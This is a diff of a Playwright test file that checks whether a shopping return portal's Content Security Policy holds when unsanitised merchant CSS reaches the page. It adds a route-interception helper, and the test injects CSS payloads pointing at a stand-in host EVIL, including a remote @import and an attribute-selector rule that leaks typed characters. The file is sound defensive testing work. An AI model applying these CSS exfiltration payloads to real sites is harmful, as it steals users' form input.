@@ -1,8 +1,8 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, test, type Page, type Request } from '@playwright/test';
-import type { Envelope, ShopSettings } from '@return-center/contract';
-import { present, signedInShopper, walkToCheckStep, withStoreConfig } from './support.js';
+import type { calls, Envelope, ShopSettings, StoreConfig } from '@return-center/contract';
+import { present, signedInShopper, walkToCheckStep, withBootData, type Reply } from './support.js';
 
 /**
  * Issue #9, Chromium checks: merchant content that would run script or load from elsewhere does neither, the page's
@@ -41,6 +41,24 @@ async function watch(page: Page, portalOrigin: string) {
   return { violations, foreign };
 }
 
+/**
+ * The store configuration the portal receives, rewritten on its way (in the page and from getConfig) as if the server's
+ * sanitiser had let `change` through: the one case where the test cannot set it through the merchant API, since the
+ * server cleans the merchant's CSS and texts before any shopper gets them (ADR 027).
+ */
+async function asIfUnsanitised(page: Page, change: (config: StoreConfig) => void) {
+  await page.route('**/go-api/v1/client/getConfig', async (route) => {
+    const response = await route.fetch();
+    const body = (await response.json()) as Reply<typeof calls.getConfig>;
+    change(body.data);
+    await route.fulfill({ response, json: body });
+  });
+  await withBootData(page, (boot) => {
+    change(boot.config);
+    return boot;
+  });
+}
+
 test('a clean walk through the journey breaks no rule of the page’s CSP', async ({ page, request, baseURL }) => {
   const seen = await watch(page, new URL(present(baseURL, 'baseURL')).origin);
   const shopper = await signedInShopper(page, request);
@@ -60,7 +78,7 @@ test('hostile merchant CSS and texts run no script and load nothing from other o
   const seen = await watch(page, new URL(present(baseURL, 'baseURL')).origin);
   page.on('dialog', (dialog) => void dialog.dismiss());
   // The configuration as if the server's sanitiser had let everything through: the CSP alone must hold.
-  await withStoreConfig(page, (config) => {
+  await asIfUnsanitised(page, (config) => {
     config.custom_css = [
       `@import url(${EVIL}/import.css);`,
       `input[value^="a"] { background-image: url(${EVIL}/key?a) }`,
